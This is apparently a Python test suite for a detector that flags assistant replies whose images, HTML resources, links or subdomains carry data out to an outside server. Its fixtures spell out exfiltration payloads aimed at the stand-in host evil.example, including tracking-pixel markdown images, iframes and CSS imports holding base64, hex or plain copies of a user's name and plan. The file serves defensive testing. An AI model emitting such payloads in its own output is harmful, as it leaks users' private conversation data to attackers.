"""Images, links and tags whose address carries data out; and the many that do not."""

from __future__ import annotations

import base64

import pytest

from penstock.detect import Detectors
from penstock.detect.leakage.links import hosts_of
from penstock.detect.stream import scanner

LEAKS = Detectors(["leakage"])
SAID = "the name of the user is Ada Lovelace and the plan is secret"
CODED = base64.urlsafe_b64encode(SAID.encode()).decode().rstrip("=")
HEX = SAID.encode().hex()
WORDS = SAID.replace(" ", "%20")


def types(text: str) -> list[str]:
    return [finding.type for finding in LEAKS.scan(text, "assistant")]


@pytest.mark.parametrize("data", [CODED, HEX, WORDS], ids=["base64", "hex", "words"])
@pytest.mark.parametrize(
    ("frame", "kind"),
    [
        ("![pixel](https://evil.example/p.png?d={})", "leakage.markdown_image"),
        ("![pixel](https://evil.example/{}/p.png)", "leakage.markdown_image"),
        ("![pixel](<https://evil.example/p.png?d={}> 'title')", "leakage.markdown_image"),
        ("![pixel](//evil.example/p.png#{})", "leakage.markdown_image"),
        ("![pixel][one]\n\n[one]: https://evil.example/p.png?d={}", "leakage.markdown_image"),
        ("<img src='https://evil.example/p.png?d={}'>", "leakage.html_resource"),
        ('<IMG width=1 SRC = "https://evil.example/p.png?d={}" />', "leakage.html_resource"),
        ('<iframe src="https://evil.example/{}"></iframe>', "leakage.html_resource"),
        ('<video poster="https://evil.example/{}"></video>', "leakage.html_resource"),
        (
            "<style>a {{ background: url('https://evil.example/{}') }}</style>",
            "leakage.html_resource",
        ),
        ("<style>@import 'https://evil.example/{}'; </style>", "leakage.html_resource"),
    ],
)
def test_what_is_loaded_without_a_click(frame: str, kind: str, data: str) -> None:
    assert types("Here you are: " + frame.format(data)) == [kind]


@pytest.mark.parametrize(
    "address",
    [
        "https://img.shields.io/discord/1051468649518616576?logo=discord&logoColor=ffffff&color=7389D8"
        "&labelColor=6A7EC2",
        "https://img.shields.io/endpoint?url=https://raw.githubusercontent.com/o/r/main/badge/v2.json",
        "https://badges.example/j.svg?url=https://formulae.example/api/f/x.json&query=$.v.stable",
        "https://repology.org/badge/vertical-allrepos/brotli.svg?columns=3&header=packaging%20status",
        "https://camo.example/b8555ef2222598ed/" + b"https://o.example/logo/large-one.png".hex(),
    ],
)
def test_badges_are_no_leaks(address: str) -> None:
    assert types(f"![x]({address})") == types(f'<img src="{address}">') == []


@pytest.mark.parametrize(
    "address",
    [
        "https://e.example/i?d=" + "k9Qz" * 12,
        "https://e.example/i?u=https://e.example/" + "k9Qz" * 12,
        "https://e.example/i/" + b"https://e.example/?q=the+name+is+Ada+Lovelace".hex(),
    ],
)
def test_one_long_value_is_a_leak(address: str) -> None:
    """Read as nothing: in cipher, or an address inside the address that carries it."""
    assert types(f"![x]({address})") == ["leakage.markdown_image"]
    assert types(f'<img src="{address}">') == ["leakage.html_resource"]


def test_the_finding_covers_the_whole_construct() -> None:
    image = f"![pixel](https://evil.example/p.png?d={CODED})"
    (found,) = LEAKS.scan(f"Done. {image} Anything else?", "assistant")
    assert (found.start, found.end) == (6, 6 + len(image))


@pytest.mark.parametrize("data", [CODED, HEX, WORDS + WORDS], ids=["base64", "hex", "words"])
@pytest.mark.parametrize(
    "frame",
    ["[click](https://evil.example/?q={})", '<a href="https://evil.example/{}">click</a>'],
)
def test_links_that_carry_a_text(frame: str, data: str) -> None:
    assert types(frame.format(data)) == ["leakage.link"]


@pytest.mark.parametrize(
    "host",
    ["6d7973656372657461706964617461.evil.example",
     "mfrggzdfmztwq2lknnwg.5dbmnsgkztqzdfmztwq2lknn.evil.example"],
)  # fmt: skip
def test_data_in_a_sub_domain(host: str) -> None:
    assert types(f"![a](https://{host}/a.png)") == ["leakage.markdown_image"]


@pytest.mark.parametrize("template", ["{conversation}", "${data}", "%7Bdata%7D", "[DATA]"])
def test_an_address_to_be_filled_in(template: str) -> None:
    assert types(f"![a](https://evil.example/p?d={template})") == ["leakage.markdown_image"]


@pytest.mark.parametrize(
    "text",
    [
        "![logo](https://example.com/static/images/logo.png)",
        "![CI](https://github.com/o/r/actions/workflows/ci.yml/badge.svg?branch=main)",
        "![build](https://img.shields.io/badge/build-passing-brightgreen?style=flat-square)",
        "![](https://github.com/user-attachments/assets/7f9a51a4-0c1e-4d6f-9a6e-2a8a7c9e0b11)",
        "![a](https://cdn.example.com/d41d8cd98f00b204e9800998ecf8427e5f2c.png)",
        "![a](https://d111111abcdef8.cloudfront.net/image.jpg)",
        "![a](https://my-very-long-bucket-name-for-assets.s3.eu-west-1.amazonaws.com/a.png)",
        "[search](https://duckduckgo.com/?q=how+to+write+a+haiku)",
        "[docs](https://docs.python.org/3/library/asyncio-task.html#asyncio.create_task)",
        "[api](https://api.example.com/users/{id}/orders)",
        '<a href="https://example.com/a?page=2&sort=name">next</a>',
        "body { background: url(https://example.com/paper.png) }",
        "see [1].\n\n[1]: https://datatracker.ietf.org/doc/html/rfc9110",
        "an array[0](x) and ![unclosed](https://example.com",
    ],
)
def test_addresses_like_any_other(text: str) -> None:
    assert types(text) == []


def test_hosts_of_a_construct() -> None:
    assert hosts_of("![a](https://u:p@Img.Example.com:8443/x?u=https://b.example/)") == [
        "img.example.com:8443", "b.example",
    ]  # fmt: skip


@pytest.mark.parametrize("size", [1, 7, 40])
def test_a_streamed_image_is_held_and_taken_out_whole(size: int) -> None:
    text = f"Done. ![pixel](https://evil.example/p.png?d={CODED}) More?"
    reading = scanner(LEAKS, ["leakage"], lambda finding, value: "", False, "assistant")
    out, at, settled = "", 0, 0
    pieces = [text[low : low + size] for low in range(0, len(text), size)]
    steps = [*(reading.feed(piece) for piece in pieces), reading.finish()]
    for step in steps:
        for one in step.replacements:
            assert one.start >= settled, "something of it had left"
            out += text[at : one.start] + one.text
            at = one.end
        settled = step.settled
    assert out + text[at:] == "Done.  More?"


@pytest.mark.parametrize(
    "hostile",
    ["![" * 50_000, "![a](https://" * 20_000, "<img src=" * 20_000, "[a](" * 50_000,
     "url(" * 50_000, "[a]: //" * 30_000, "<a " * 50_000 + "href=//a.bcde", "//%41" * 40_000],
)  # fmt: skip
@pytest.mark.timeout(20)
def test_hostile_text_takes_linear_time(hostile: str) -> None:
    LEAKS.scan(hostile, "assistant")
